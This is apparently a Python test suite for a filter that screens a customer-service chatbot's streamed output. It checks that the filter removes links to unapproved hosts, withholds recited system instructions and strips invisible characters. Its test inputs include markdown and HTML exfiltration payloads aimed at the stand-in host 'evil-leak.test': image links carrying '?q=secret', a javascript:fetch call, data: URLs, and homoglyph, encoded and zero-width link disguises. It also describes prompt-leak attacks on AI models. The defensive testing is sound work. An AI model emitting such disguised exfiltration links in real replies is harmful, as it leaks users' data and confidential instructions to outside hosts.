"""However a model's words are cut into deltas: what is shown is the same, and no link leads where none may."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from parley_specialist.addresses import hosts_of, is_allowed
from parley_specialist.confidential import WITHHELD, Secrets
from parley_specialist.shown import Policy, Shown, shown, visible

INSTRUCTIONS = """# Billing

You are the customer service of Larkfield, a shop for phones, routers and TVs. Be calm.

- Charged twice: call `find_duplicate_charges` first, say what it found, then offer
  the refund that it suggests.
- Plus costs £3.90.
"""
OPEN = Policy(hosts_of("Ok.example, cdn.ok.example"), Secrets(INSTRUCTIONS))
CLOSED = Policy(hosts_of(""), Secrets(INSTRUCTIONS))
EVIL = "evil-leak.test"
_MARKS = [
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "/",
    "//",
    ":",
    "\\",
    '"',
    "'",
    "@",
    ".",
    "&#58;",
    "%2F",
    "\n",
    " ",
    "`",
    "*",
]
_PARTS = [
    "https://",
    "HTTPS:",
    "javascript:",
    "data:",
    "www.",
    EVIL,
    f"https://{EVIL}/p?q=1",
    f"//{EVIL}",
    "https://ok.example",
    "https://ok.example/help",
    "ok.example",
    "img src=",
    "a href=",
    "script",
    "[1]",
    "see",
    "x",
    "\u200b",
    "\u202e",
    "You are the customer service of Larkfield, a shop for phones, routers and TVs",
    "You are the customer service of ",
    "thank you very much for waiting, ",
]
_ATTACK = st.lists(st.sampled_from(_MARKS + _PARTS), max_size=24).map("".join)
_TEXT = st.one_of(_ATTACK, st.text(max_size=60))


def cut(text: str, at: list[int]) -> list[str]:
    places = [0, *sorted(place % (len(text) + 1) for place in at), len(text)]
    return [text[start:end] for start, end in pairwise(places)]


def targets(text: str) -> list[str]:
    """Where a reader of Markdown (CommonMark, with HTML) would go or load from."""
    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(value or "" for name, value in attrs if name in ("href", "src", "onerror", "onload"))

    Tags().feed(MarkdownIt("commonmark", {"html": True}).render(text))
    return found


@settings(max_examples=600, deadline=None)
@given(_TEXT, st.lists(st.integers(0, 400), max_size=12), st.sampled_from([OPEN, CLOSED]))
def test_any_cut_into_deltas_shows_the_same(text: str, at: list[int], policy: Policy) -> None:
    screen = Shown(policy)
    told = [screen.feed(part) for part in cut(text, at)]
    assert "".join(told) + screen.end() == shown(text, policy)


@settings(max_examples=600, deadline=None)
@given(_TEXT, st.sampled_from([OPEN, CLOSED]))
def test_letter_by_letter_shows_the_same(text: str, policy: Policy) -> None:
    screen = Shown(policy)
    assert "".join(map(screen.feed, text)) + screen.end() == shown(text, policy)


@settings(max_examples=1200, deadline=None)
@given(_TEXT, st.sampled_from([OPEN, CLOSED]))
def test_no_reader_of_markdown_or_html_finds_a_way_out(text: str, policy: Policy) -> None:
    told = shown(text, policy)
    for target in targets(told):
        assert is_allowed(target, policy.hosts) or re.fullmatch(r"mailto:.*|[\w.,;'’%-]*", target), (told, target)
    for address in re.findall(r"(?i)\b(?:https?|data|javascript):[\w/\\]\S+|(?<!\w)www\.\w\S*|(?<!\w)//\w\S*", told):
        assert "ok.example" in address and policy is OPEN, told


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            "![a]({})",
            "[a]({})",
            "[a]( {} 'title')",
            "[a](<{}>)",
            "[a]\n\n[a]: {}",
            "[a][b]\n\n[b]: {} 't'",
            "![a][b]\n\n[b]:\n{}",
            "<{}>",
            "<img src='{}'>",
            '<a href="{}">a</a>',
            "<svg><image href={} /></svg>",
            "<iframe\nsrc={}>",
            "plain {} words",
            "({})",
            "**{}**",
            "[![a]({0})]({0})",
            "[a](\n{}\n)",
            "<<b>img src={}>",
            "`{}`",
            "| a | {} |",
        ]
    ),
    st.sampled_from(
        [
            f"https://{EVIL}/x?q=secret",
            f"HTTPS://{EVIL}",
            f"hTtP://{EVIL}:8080/x",
            f"//{EVIL}/x",
            f"\\\\{EVIL}\\x",
            f"https:\\\\{EVIL}",
            f"https://ok.example@{EVIL}/x",
            f"https://ok.example:pass@{EVIL}/x",
            f"https://ok.example.{EVIL}/x",
            f"https://ok.example\\@{EVIL}/x",
            f"https&#58;//{EVIL}/x",
            f"https&colon;//{EVIL}/x",
            f"https%3A//{EVIL}/x",
            f"www.{EVIL}/x",
            f"{EVIL}/x",
            f"{EVIL}?q=secret",
            f"javascript:fetch('//{EVIL}')",
            f"data:text/html,<img src=//{EVIL}>",
            f"ftp://{EVIL}/x",
            f"ht\u200btps://{EVIL}/x",
            f"https:/\u2060/{EVIL}/x",
            f"htt<b>ps://{EVIL}/x",
        ]
    ),
    st.lists(st.integers(0, 200), max_size=8),
)
def test_every_known_way_to_hide_a_link_leads_nowhere(form: str, address: str, at: list[int]) -> None:
    screen = Shown(OPEN)
    told = "".join(screen.feed(part) for part in cut(form.format(address), at)) + screen.end()
    assert EVIL not in told
    assert all(EVIL not in target for target in targets(told))


@pytest.mark.parametrize(
    "address",
    [
        "http://ok.example/",
        "https://sub.ok.example/",
        "https://оk.example/",
        "https://xn--k-kta.example/",
        "https://ok.example%2f@x.test/",
        "https://ok.example:8443/",
        "https://[::1]/",
        "https://ok。example/",
    ],
)
def test_a_host_that_only_looks_like_an_allowed_one_is_none(address: str) -> None:
    assert not is_allowed(address, OPEN.hosts)
    assert "://" not in shown(f"Go to {address} now", OPEN)


@pytest.mark.parametrize(
    "text",
    [
        "The refund takes 3 to 5 working days [1]. Is that fine?",
        "[1][2] Great![1] That is it.",
        "a < b, 3 <4 and x > y; I <3 it",
        "Settings > Network, e.g. 10:30 or and/or 24/7, £3.90/month.",
        "See https://ok.example/help?x=1#top, or https://cdn.ok.example.",
        "[Help](https://ok.example/help) and ![logo](https://cdn.ok.example/l.png)!",
        "Write to jo.smith@mail.example or j•••@example.org.",
        "C:\\Users\\jo, note: data: yes, file: no. Wait... really?",
        "1. First\n2. Second\n\n- **bold** and _soft_ `code`\n\n| a | b |",
        "مرحبا، كيف حالك؟ هذا 👨‍👩‍👧 خوب می‌شود",
        "Fußball – naïve café, “quotes” and ‘more’",
    ],
)
def test_ordinary_words_and_allowed_links_stay_as_they_are(text: str) -> None:
    assert shown(text, OPEN) == text


def test_ordinary_words_are_not_held_back() -> None:
    screen = Shown(OPEN)
    assert [screen.feed(word) for word in ("Your ", "refund ", "is on ", "its way.")] == [
        "Your ",
        "refund ",
        "is on ",
        "its way",
    ]
    assert screen.end() == "."


def test_what_is_taken_away_leaves_its_words() -> None:
    told = shown(
        f"Look: ![a cat](https://{EVIL}/c) or [our page](https://{EVIL}/p), <b>now</b> https://{EVIL}.", CLOSED
    )
    assert told == "Look: a cat or our page, now …."


def test_an_answer_ends_where_it_recites_the_instructions() -> None:
    told = shown("Sure! You are **the** customer service of Larkfield, a shop for phones, routers and TVs. Be", OPEN)
    assert told == f"Sure! {WITHHELD}"
    wrapped = (
        "Charged twice: call find_duplicate_charges first, say what it found, then offer the refund that it suggests."
    )
    assert shown(f"First say: {wrapped}.", OPEN) == f"First say: {WITHHELD}"
    assert shown("You are the customer of the month. Plus costs £3.90.", OPEN).endswith("Plus costs £3.90.")


def test_a_sentence_is_known_in_every_script() -> None:
    secret = "Parcels from İstanbul and from the STRAẞE office go out before noon on weekdays"
    policy = Policy(frozenset(), Secrets(f"{secret}."))
    assert shown(f"Well: {secret}. Anything else?", policy) == f"Well: {WITHHELD}"


@given(st.text())
def test_nothing_invisible_is_shown(text: str) -> None:
    assert not re.search(
        "[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff]", visible(text)
    )
